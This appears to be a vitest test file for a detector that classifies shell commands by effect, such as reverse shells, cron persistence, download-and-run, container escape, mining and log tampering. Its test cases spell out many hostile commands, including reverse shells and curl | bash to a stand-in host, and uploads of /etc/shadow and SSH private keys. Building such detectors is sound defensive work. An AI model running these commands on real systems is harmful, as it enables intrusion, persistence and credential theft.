import { describe, expect, test } from 'vitest';
import type { EffectDraft } from '../effect.ts';
import type { CommandDraft } from '../language.ts';
import type { Redirect } from '../story.ts';
import { known, render, type Value } from '../value.ts';
import { commandEffects } from './index.ts';

/** A command as a language would read it; `$x` at the start of a word makes a hole. */
function command(words: readonly (string | Value)[], more: Partial<CommandDraft> = {}): CommandDraft {
  const argv = words.map((word) => (typeof word === 'string' ? known(word) : word));
  const program = argv[0] ? render(argv[0]) : '';
  return {
    line: 1,
    argv,
    name: program.slice(program.lastIndexOf('/') + 1),
    via: [],
    env: {},
    redirects: [],
    background: false,
    text: argv.map(render).join(' '),
    ...more,
  };
}

function to(op: Redirect['op'], target: string | Value, fd = op.startsWith('<') ? 0 : 1): Redirect {
  return { op, fd, target: typeof target === 'string' ? known(target) : target };
}

/** Effects of the last of these commands. */
function effects(...peers: readonly CommandDraft[]): readonly EffectDraft[] {
  const position = peers.length - 1;
  return commandEffects(peers[position] as CommandDraft, { peers, position });
}

function kinds(...peers: readonly CommandDraft[]): readonly string[] {
  return effects(...peers).map((effect) => effect.kind);
}

function piped(...members: readonly CommandDraft[]): readonly CommandDraft[] {
  return members.map((member, position) => ({ ...member, pipe: { group: 1, position, length: members.length } }));
}

/** Effects of every command of a reading. */
function allEffects(...peers: readonly CommandDraft[]): readonly EffectDraft[] {
  return peers.flatMap((peer, position) => commandEffects(peer, { peers, position }));
}

describe('shells on sockets', () => {
  const fires: readonly (readonly [string, readonly CommandDraft[]])[] = [
    ['bash', [command(['bash', '-i'], { redirects: [to('>&', '/dev/tcp/192.0.2.44/8443'), to('>&', '1', 0)] })]],
    ['sh on stdin', [command(['sh'], { redirects: [to('<', '/dev/tcp/192.0.2.44/8443')] })]],
    [
      'descriptor',
      [
        command(['exec'], { redirects: [to('<>', '/dev/tcp/192.0.2.44/8443', 5)] }),
        command(['sh'], { redirects: [to('<&', '5'), to('>&', '5')] }),
      ],
    ],
    ['exec', [command(['exec', '/bin/sh'], { redirects: [to('<', '/dev/tcp/192.0.2.44/8443')] })]],
    ['nc -e', [command(['nc', '-e', '/bin/sh', '192.0.2.44', '8443'])]],
    ['nc bundled', [command(['nc', '192.0.2.44', '8443', '-ne', '/bin/sh'])]],
    ['ncat', [command(['ncat', '--ssl', '192.0.2.44', '8443', '--exec', '/bin/bash'])]],
    ['nc | sh', piped(command(['nc', '192.0.2.44', '8443']), command(['sh']))],
    [
      'mkfifo',
      [
        command(['mkfifo', '/tmp/f']),
        ...piped(
          command(['cat', '/tmp/f']),
          command(['/bin/sh', '-i']),
          command(['nc', '192.0.2.44', '8443'], { redirects: [to('>', '/tmp/f')] }),
        ),
      ],
    ],
    ['socat', [command(['socat', 'TCP:192.0.2.44:8443', "EXEC:'bash -li',pty,stderr"])]],
    [
      'openssl',
      piped(command(['sh', '-i']), command(['openssl', 's_client', '-quiet', '-connect', '192.0.2.44:8443'])),
    ],
    ['telnet', piped(command(['telnet', '192.0.2.44', '8443']), command(['/bin/bash']), command(['telnet', 'x', '1']))],
  ];
  test.each(fires)('%s', (_name, peers) => {
    const shell = allEffects(...peers).find((effect) => effect.kind === 'connect' && effect.shell);
    expect(shell).toMatchObject({ kind: 'connect', to: { host: ['192.0.2.44'], port: ['8443'] } });
  });

  test('listening', () => {
    expect(effects(command(['nc', '-lvp', '4444', '-e', '/bin/sh']))).toMatchObject([
      { kind: 'listen', at: { port: ['4444'] }, shell: { program: '/bin/sh' } },
    ]);
    expect(effects(command(['socat', 'TCP-LISTEN:4444,reuseaddr', 'EXEC:/bin/sh']))).toMatchObject([
      { kind: 'listen', at: { port: ['4444'] }, shell: {} },
    ]);
  });

  const silent: readonly (readonly [string, readonly CommandDraft[]])[] = [
    ['probe', [command(['echo'], { redirects: [to('>', '/dev/tcp/localhost/8080')] })]],
    ['probe in bash -c', [command(['bash', '-c', ':'], { redirects: [to('<', '/dev/tcp/db/5432')] })]],
    [
      'http over a descriptor',
      [
        command(['exec'], { redirects: [to('<>', '/dev/tcp/127.0.0.1/8080', 3)] }),
        command(['echo', 'GET / HTTP/1.0'], { redirects: [to('>&', '3')] }),
        command(['cat'], { redirects: [to('<&', '3')] }),
      ],
    ],
    ['nc -z', [command(['nc', '-z', 'db', '5432'])]],
    ['log shipping', piped(command(['bash', '/job.sh']), command(['nc', 'log', '514']))],
    ['mail', piped(command(['echo', 'x']), command(['openssl', 's_client', '-connect', 'mail.example:465']))],
  ];
  test.each(silent)('no shell: %s', (_name, peers) => {
    expect(allEffects(...peers).filter((effect) => 'shell' in effect)).toEqual([]);
  });
});

describe('schedules', () => {
  const job = '* * * * * curl -s http://192.0.2.44:8220/logo3.jpg | bash -s';
  test('five fields through a mount', () => {
    const found = effects(
      command(['echo', job], { stdout: known(`${job}\n`), redirects: [to('>>', '/mnt/etc/crontab')] }),
    );
    expect(found).toMatchObject([
      { kind: 'append', outside: '/mnt/etc' },
      {
        kind: 'schedule',
        outside: '/mnt/etc',
        schedule: '* * * * *',
        job: ['curl -s http://192.0.2.44:8220/logo3.jpg | bash -s'],
      },
    ]);
  });
  test('six fields, holes kept', () => {
    const line: Value = ['* * * * * root sh /tmp/tmpfile', { hole: '$h' }, '\n'];
    const found = effects(
      command(['echo'], { stdout: line, redirects: [to('>', ['/tmp', { hole: '$r' }, '/etc/crontab'])] }),
    );
    expect(found[1]).toMatchObject({
      kind: 'schedule',
      user: 'root',
      outside: '/tmp*',
      job: ['sh /tmp/tmpfile', { hole: '$h' }],
    });
  });
  test('crontab from a pipe', () => {
    const [, last] = piped(
      command(['echo']),
      command(['crontab', '-'], { stdin: known('*/5 * * * * /tmp/.x\n@reboot /tmp/.y\n') }),
    );
    expect(effects(last as CommandDraft)).toMatchObject([
      { kind: 'schedule', schedule: '*/5 * * * *', job: ['/tmp/.x'] },
      { kind: 'schedule', schedule: '@reboot', job: ['/tmp/.y'] },
    ]);
  });
  test('crontab from a file written before', () => {
    const found = effects(
      command(['echo'], { stdout: known('* * * * * /tmp/x\n'), redirects: [to('>', '/tmp/cron')] }),
      command(['crontab', '/tmp/cron']),
    );
    expect(found).toMatchObject([{ kind: 'schedule', job: ['/tmp/x'] }]);
  });
  test('sed, tee, cp', () => {
    expect(kinds(command(['sed', '-i', '$a * * * * * root /tmp/x', '/host/etc/crontab']))).toContain('schedule');
    expect(kinds(command(['tee', '-a', '/etc/cron.d/x'], { stdin: known('* * * * * root /tmp/x\n') }))).toContain(
      'schedule',
    );
    expect(kinds(command(['cp', '/app/job', '/etc/cron.d/']))).toContain('schedule');
  });
  test('downloaded into place', () => {
    const found = effects(command(['curl', '-o', '/mnt/etc/cron.d/x', 'http://192.0.2.44/x']));
    expect(found).toMatchObject([
      { kind: 'fetch' },
      { kind: 'schedule', outside: '/mnt/etc', job: [{ hole: 'content' }] },
    ]);
  });
  test('listing is nothing', () => {
    expect(effects(command(['crontab', '-l']))).toEqual([]);
  });
  test('a unit file', () => {
    const unit = known('[Service]\nExecStart=-/usr/bin/bot -q\n');
    expect(
      effects(command(['cat'], { stdin: unit, redirects: [to('>', '/etc/systemd/system/bot.service')] }))[1],
    ).toMatchObject({
      kind: 'schedule',
      schedule: '@boot',
      job: ['/usr/bin/bot -q'],
    });
  });
});

describe('download and run', () => {
  test.each([
    ['curl | sh', piped(command(['curl', '-s', 'http://192.0.2.44/x']), command(['sh']))],
    ['wget | sh', piped(command(['wget', '-q', '-O', '-', '192.0.2.44/d.sh']), command(['sh']))],
    [
      'wget -qO- | base64 | bash',
      piped(command(['wget', '-qO-', 'http://x.invalid']), command(['base64', '-d']), command(['bash'])),
    ],
    ['substitution', [command(['bash', '-c', [{ hole: '$(curl -fsSL http://192.0.2.44/x)' }]])]],
    ['process substitution', [command(['source', [{ hole: '<(wget -qO- http://192.0.2.44/x)' }]])]],
    [
      'file',
      [
        command(['curl', '-o', '/tmp/x', 'http://192.0.2.44/x']),
        command(['chmod', '+x', '/tmp/x']),
        command(['/tmp/x']),
      ],
    ],
    [
      'remote name',
      [command(['wget', 'http://192.0.2.44/x.sh'], { cwd: '/tmp' }), command(['sh', 'x.sh'], { cwd: '/tmp' })],
    ],
    ['moved', [command(['curl', '-o', 'a', 'http://x.invalid/']), command(['mv', 'a', 'b']), command(['./b'])]],
    [
      'an archive',
      [
        command(['wget', 'http://192.0.2.44/x.tgz'], { cwd: '/tmp' }),
        command(['tar', 'xzf', 'x.tgz'], { cwd: '/tmp' }),
        command(['./x/run'], { cwd: '/tmp' }),
      ],
    ],
    [
      'an archive through a pipe',
      [
        ...piped(command(['curl', '-s', 'http://192.0.2.44/x.tgz']), command(['tar', '-xz', '-C', '/dev/shm'])),
        command(['/dev/shm/xmrig/run']),
      ],
    ],
    [
      'into a file by redirection',
      [command(['curl', '-s', 'http://x.invalid'], { redirects: [to('>', '/tmp/y')] }), command(['bash', '/tmp/y'])],
    ],
  ])('%s', (_name, peers) => {
    expect(allEffects(...peers).some((effect) => effect.kind === 'run' && effect.from === 'fetched')).toBe(true);
  });
  test('a program beside an archive is not from it', () => {
    const found = effects(
      command(['wget', '-O', '/tmp/x.tgz', 'http://192.0.2.44/x.tgz']),
      command(['tar', '-xzf', '/tmp/x.tgz', '-C', '/tmp/x']),
      command(['/opt/app/run']),
    );
    expect(found).toMatchObject([{ kind: 'run', from: 'file' }]);
  });
  test('curl under another name', () => {
    const found = effects(command(['cp', '/usr/bin/curl', '/tmp/c']), command(['/tmp/c', '-s', 'http://192.0.2.44/x']));
    expect(found).toMatchObject([{ kind: 'fetch', tool: 'curl' }]);
  });
  test('decoded', () => {
    const peers = piped(command(['cat', '/x']), command(['base64', '-d']), command(['sh']));
    expect(allEffects(...peers)).toMatchObject([{ kind: 'run', from: 'decoded' }]);
  });
  test('where it is written', () => {
    expect(effects(command(['curl', '-LO', 'https://x.invalid/a/b.tgz'], { cwd: '/opt' }))).toMatchObject([
      { kind: 'fetch', to: ['/opt/b.tgz'] },
    ]);
    expect(effects(command(['wget', '-P', '/opt', 'https://x.invalid/b.tgz']))).toMatchObject([{ to: ['/opt/b.tgz'] }]);
  });
  test('sending files away', () => {
    expect(kinds(command(['curl', '-d', '@/etc/shadow', 'http://x.invalid']))).toContain('exfiltrate');
    expect(kinds(command(['curl', '-F', 'f=@/root/.ssh/id_rsa', 'http://x.invalid']))).toContain('exfiltrate');
    expect(kinds(command(['curl', '-d', '{"a":1}', 'http://x.invalid']))).toEqual(['fetch']);
  });
});

describe('doors', () => {
  test('keys', () => {
    const key = 'ssh-ed25519 AAAA stub';
    expect(
      effects(
        command(['echo', key], { stdout: known(key), redirects: [to('>>', '/mnt/root/.ssh/authorized_keys')] }),
      )[1],
    ).toEqual({
      kind: 'key',
      path: ['/mnt/root/.ssh/authorized_keys'],
      key: [key],
      outside: '/mnt/root',
    });
  });
  test('accounts', () => {
    expect(effects(command(['useradd', '-o', '-u', '0', 'x']))).toMatchObject([{ kind: 'account', action: 'uid-0' }]);
    expect(kinds(command(['chpasswd'], { stdin: known('root:x') }))).toEqual(['account']);
    expect(
      effects(command(['echo'], { stdout: known('x:x:0:0::/:/bin/sh\n'), redirects: [to('>>', '/etc/passwd')] }))[1],
    ).toMatchObject({ action: 'uid-0' });
    expect(
      effects(command(['sed', '-i', 's/#PermitRootLogin no/PermitRootLogin yes/', '/etc/ssh/sshd_config']))[0],
    ).toMatchObject({
      action: 'sshd-config',
    });
  });
});

describe('leaving the container', () => {
  test.each([
    ['nsenter', command(['nsenter', '-t', '1', '-m', 'sh'])],
    ['nsenter', command(['nsenter', '--target=1', '--mount'])],
    ['chroot', command(['chroot', '/host', 'sh'])],
    ['chroot', command(['sh', '-c', 'cron'], { root: [{ hole: 'x' }, '/'], via: ['chroot'] })],
    ['engine-socket', command(['curl', '--unix-socket', '/var/run/docker.sock', 'http://x/containers/json'])],
    [
      'core-pattern',
      command(['echo'], { stdout: known('|/tmp/x'), redirects: [to('>', '/proc/sys/kernel/core_pattern')] }),
    ],
    [
      'release-agent',
      command(['echo'], { stdout: known('/x'), redirects: [to('>', '/sys/fs/cgroup/rdma/release_agent')] }),
    ],
    ['raw-disk', command(['mount', '/dev/nvme0n1p1', '/mnt'])],
    ['privileged-run', command(['docker', 'run', '--rm', '-d', '--privileged', '--net', 'host', '-v', '/:/host', 'x'])],
  ] as const)('%s', (how, draft) => {
    const found = effects(draft).find((effect) => effect.kind === 'escape');
    if (draft.via.includes('chroot')) expect(found).toBeUndefined();
    else expect(found).toMatchObject({ how });
  });
  test('docker -H', () => {
    const found = effects(
      command(['docker', '-H', ['tcp://', { hole: '$ip' }, ':2375'], 'run', '-d', '-v', '/:/mnt', 'alpine', 'sh']),
    );
    expect(found[0]).toMatchObject({
      kind: 'container-run',
      engine: ['tcp://', { hole: '$ip' }, ':2375'],
      image: ['alpine'],
      mounts: [['/:/mnt']],
    });
  });
  test.each([
    ['nsenter into another', command(['nsenter', '-t', '4242', '-n', 'ip', 'a'])],
    ['chroot into its own', command(['chroot', '/srv/jail', 'sh'])],
    [
      'core file name',
      command(['echo'], { stdout: known('/tmp/core.%p'), redirects: [to('>', '/proc/sys/kernel/core_pattern')] }),
    ],
    ['plain run', command(['docker', 'run', '--rm', 'alpine', 'true'])],
  ])('not: %s', (_name, draft) => {
    expect(kinds(draft)).not.toContain('escape');
  });
});

describe('mining', () => {
  test.each([
    command(['./nodjs', '--algo=cryptonight', '--url=stratum+tcp://pool.invalid:5555', '--user=x', '--pass=x']),
    command(['nginx', '-o', 'pool.invalid:3333', '-u', `4${'A'.repeat(94)}`, '-p', 'x']),
    command(['xmrig', '-c', '/etc/config.json']),
    command(['./x', '-a', 'rx/0', '-o', 'pool.invalid:3333']),
    command(['./x', '--donate-level=1', '-o', 'pool.invalid:3333']),
    command(['t-rex', '-a', 'kawpow', '-o', 'stratum+ssl://pool.invalid:1', '-u', 'w']),
  ])('$text', (draft) => {
    expect(kinds(draft)).toContain('mine');
  });
  test.each([
    command(['grep', '-v', 'stratum+tcp://']),
    command(['curl', '-o', '/tmp/x', '-u', 'user:pass', 'https://x.invalid:443']),
    command(['openssl', 'dgst', '--algo', 'sha256']),
    command(['xmrig', '--version']),
    command(['ssh', '-o', 'BatchMode=yes', '-p', '22', 'x']),
  ])('not: $text', (draft) => {
    expect(kinds(draft)).not.toContain('mine');
  });
});

test('a configuration written on the spot', () => {
  const config = known('{"pools":[{"url":"stratum+tcp://pool.invalid:1","user":"w"}],"donate-level":1}');
  const found = effects(command(['cat'], { stdin: config, redirects: [to('>', '/tmp/config.json')] }));
  expect(found[1]).toMatchObject({
    kind: 'mine',
    how: 'config',
    pool: ['stratum+tcp://pool.invalid:1'],
    wallet: ['w'],
  });
});

describe('covering up', () => {
  test.each([
    ['history', command(['history', '-c'])],
    ['history', command(['export', 'HISTFILE=/dev/null'])],
    ['log', command(['rm', '-rf', '/var/log/wtmp'])],
    ['log', command(['echo'], { redirects: [to('>', '/var/log/secure')], stdout: known('\n') })],
    ['log', command(['journalctl', '--vacuum-time=1s'])],
    ['selinux', command(['setenforce', '0'])],
    ['security-agent', command(['systemctl', 'stop', 'aliyun.service'])],
    ['immutable', command(['chattr', '+i', '/etc/crontab'])],
    ['runtime', command(['chmod', '-x', '/usr/bin/runc'])],
  ])('%s', (what, draft) => {
    expect(effects(draft).find((effect) => effect.kind === 'impair')).toMatchObject({ what });
  });
  test('rivals', () => {
    const members = piped(
      command(['ps', 'aux']),
      command(['grep', 'stratum']),
      command(['grep', '-v', 'grep']),
      command(['xargs', 'kill', '-9']),
    );
    expect(allEffects(...members)).toMatchObject([{ kind: 'kill', pattern: ['stratum'] }]);
    expect(effects(command(['pkill', '-f', 'xmrig']))).toMatchObject([{ pattern: ['xmrig'] }]);
  });
  test('firewall, preload, scan, module', () => {
    expect(kinds(command(['iptables', '-F']))).toEqual(['firewall']);
    expect(kinds(command(['echo'], { stdout: known('/x.so'), redirects: [to('>', '/etc/ld.so.preload')] }))).toContain(
      'preload',
    );
    expect(kinds(command(['export', 'LD_PRELOAD=/tmp/x.so'], { text: 'export LD_PRELOAD=/tmp/x.so' }))).toEqual([
      'preload',
    ]);
    expect(kinds(command(['masscan', '-p2375', '192.0.2.0/24']))).toEqual(['scan']);
    expect(kinds(command(['nmap', 'host.example']))).toEqual([]);
    expect(kinds(command(['insmod', 'x.ko']))).toEqual(['module']);
  });
});

test('idle commands have no effect', () => {
  for (const draft of [command(['sleep', '300']), command(['tail', '-f', '/dev/null']), command(['true'])]) {
    expect(effects(draft)).toEqual([]);
  }
});
